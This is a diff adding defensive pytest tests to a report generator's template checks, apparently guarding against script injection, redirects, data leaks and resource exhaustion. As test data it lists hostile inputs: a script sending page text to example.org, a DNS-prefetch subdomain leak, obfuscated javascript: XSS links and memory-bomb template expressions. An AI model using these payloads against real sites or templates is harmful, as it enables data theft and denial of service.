@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import base64
+import json
 import re
 import shutil
+import subprocess
+import sys
 from collections.abc import Iterator
 from hashlib import sha256
 from pathlib import Path
@@ -13,6 +16,7 @@ import pdfplumber
 import pikepdf
 import pytest
 
+from reportgen import resources
 from reportgen.report.catalogue import Catalogue
 from reportgen.report.numbers import Unit, loss, percent, points, whole, written_in
 from reportgen.report.render import Page
@@ -231,6 +235,139 @@ def test_the_policy_comes_before_all_that_a_page_may_load(tmp_path: Path) -> Non
     assert first is not None
     ours = base64.b64encode(sha256(own().text("script.js").encode()).digest()).decode()
     assert f"default-src 'none'; script-src 'sha256-{ours}'; style-src 'sha256-" in first[1]
+
+
+PLAIN_PAGE = (
+    '<!doctype html><html><head><meta charset="utf-8"><meta name="keywords" content="{{ seal }}">'
+    "<style>\n</style></head><body>{{ body }}<script>{{ script }}</script></body></html>"
+)
+
+
+def plain_page(tmp_path: Path, section: str) -> Page:
+    return page(tmp_path, section, **{"report.html.j2": PLAIN_PAGE})
+
+
+def policy_and_script(html: str) -> tuple[str, str]:
+    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html)
+    assert policy is not None
+    return policy[1], html.rpartition("<script>")[2].partition("</script>")[0]
+
+
+def test_scripts_come_from_the_program_alone(tmp_path: Path) -> None:
+    folder = tmp_path / "mine"
+    with pytest.raises(TemplateError, match=r"mine/script\.js: scripts come from the program alone"):
+        page(tmp_path, "", **{"script.js": "location = 'https://example.org/' + document.body.innerText"})
+    original = (resources.templates() / "script.js").read_text(encoding="utf-8")
+    (folder / "script.js").write_text(original, encoding="utf-8")  # of an older export, say
+    assert "script.js" not in read(folder).replaced
+    policy, script = policy_and_script(plain_page(tmp_path, "<script>alert(1)</script>").for_screen())
+    assert script == original
+    digest = base64.b64encode(sha256(original.encode()).digest()).decode()
+    assert re.findall(r"script-src ([^;]*)", policy) == [f"'sha256-{digest}'"]
+
+
+LEADING_AWAY = [
+    "<meta http-equiv=refresh content='0; url=https://example.org/'>",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://example.org/">',
+    "<meta\nname='a' http-equiv='refresh' content='0;url=//example.org'>",
+    "<meta/http-equiv=refresh/content=0;url=//example.org>",
+    '<meta name="a" content=b" c=">" http-equiv=refresh content="0;url=//example.org">',
+    "<!--><meta http-equiv=refresh content='0;url=//example.org'>-->",
+    "{{ '<meta http-equiv=refresh content=0;url=//example.org>'|safe }}",
+    "{% set m = 'meta' %}<{{ m }} http-equiv=refresh content='0;url=//example.org'>",
+    "<base href='https://example.org/'>",
+    "<form action='https://example.org/'><button>more</button></form>",
+    "<link rel=dns-prefetch href='//{{ 'secret' }}.example.org'>",
+    "<iframe src='https://example.org/'></iframe>",
+    "<object data='https://example.org/'></object>",
+    "<noscript><p title='</noscript><meta name=a>'></p></noscript>",
+    "<a href='javascript:alert(1)'>more</a>",
+    "<a href=' JAVA&#115;cript&colon;alert(1)'>more</a>",
+    '<a href="java\tscript:alert(1)">more</a>',
+    "<svg><a xlink:href=javascript:alert(1)><text>more</text></a></svg>",
+]
+
+
+@pytest.mark.parametrize("text", LEADING_AWAY)
+def test_a_page_cannot_lead_away_with_its_text(tmp_path: Path, text: str) -> None:
+    made = plain_page(tmp_path, text)
+    for render in (made.for_screen, made.for_print):
+        with pytest.raises(TemplateError, match=r"mine: in line \d+ of the page: <?\w+"):
+            render()
+
+
+def test_a_page_may_say_these_words_and_link_where_it_likes(tmp_path: Path) -> None:
+    html = plain_page(
+        tmp_path,
+        "<p>{{ '<form> and <meta http-equiv=refresh> are tags' }}</p><metadata></metadata>"
+        "<p><a href='https://example.org/javascript:'>javascript: is a word</a></p>",
+    ).for_screen()
+    assert "&lt;meta http-equiv=refresh&gt;" in html
+    assert "<a href='https://example.org/javascript:'>" in html
+
+
+GREEDY = {
+    "product": ("{{ 'x' * 4000000000 }}", "1,073,741,824 bytes of memory"),
+    "product of a list": ("{% set a = [0] * 4000000000 %}", "1,073,741,824 bytes of memory"),
+    "ljust": ("{{ 'x'.ljust(4000000000) }}", "1,073,741,824 bytes of memory"),
+    "center": ("{{ 'x'|center(4000000000) }}", "1,073,741,824 bytes of memory"),
+    "width of a format": ("{{ '%4000000000d' % 1 }}", "1,073,741,824 bytes of memory"),
+    "replace": (
+        "{% set a = 'x' * 30000 %}{{ a.replace('x', a).replace('x', a) }}",
+        "1,073,741,824 bytes of memory",
+    ),
+    "doubling": (
+        "{% set n = namespace(a='x') %}{% for i in range(40) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
+        "1,073,741,824 bytes of memory",
+    ),
+    "join": ("{{ range(100000)|join('x' * 100000) }}", "1,073,741,824 bytes of memory"),
+    "lists": (
+        "{% set n = namespace(a=[0]) %}{% for i in range(40) %}{% set n.a = n.a + n.a %}{% endfor %}",
+        "1,073,741,824 bytes of memory",
+    ),
+    "range": ("{{ range(4000000000)|list }}", "Range too big"),
+    "long page": ("{{ 'x' * 70000000 }}", "more than 67,108,864 characters"),
+    "for ever": ("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}", "seconds"),
+}
+ONE_BY_ONE = """
+import gc, json, resource, sys
+from pathlib import Path
+from reportgen.errors import UserError
+from reportgen.report import limits
+from tests.report.test_templates import GREEDY, plain_page
+
+resource.setrlimit(resource.RLIMIT_AS, (8 * 2**30, 8 * 2**30))
+limits.MOST_SECONDS = 3.0
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+said = {}
+for name, (text, _) in GREEDY.items():
+    (place := Path(sys.argv[1], name)).mkdir()
+    try:
+        plain_page(place, text).for_screen()
+    except UserError as error:
+        said[name] = str(error)
+    gc.collect()  # an error keeps what was there when it came
+after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+print(json.dumps([said, (after - before) * 1024, resource.getrlimit(resource.RLIMIT_DATA)[0]]))
+"""
+
+
+def test_a_template_cannot_fill_the_memory_or_go_on_for_ever(tmp_path: Path) -> None:
+    done = subprocess.run(
+        [sys.executable, "-c", ONE_BY_ONE, tmp_path],
+        cwd=Path(__file__).parents[2],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    said, taken, limit_afterwards = json.loads(done.stdout)
+    assert said.keys() == GREEDY.keys()
+    for name, (_, reason) in GREEDY.items():
+        assert reason in said[name], name
+        assert "\n" not in said[name]
+        assert said[name].startswith(f"{tmp_path / name / 'mine'}")
+    assert taken < 1.25 * 2**30
+    assert limit_afterwards == -1
 
 
 def test_a_pdf_loads_nothing_that_a_template_names(cli: Cli, tmp_path: Path) -> None:
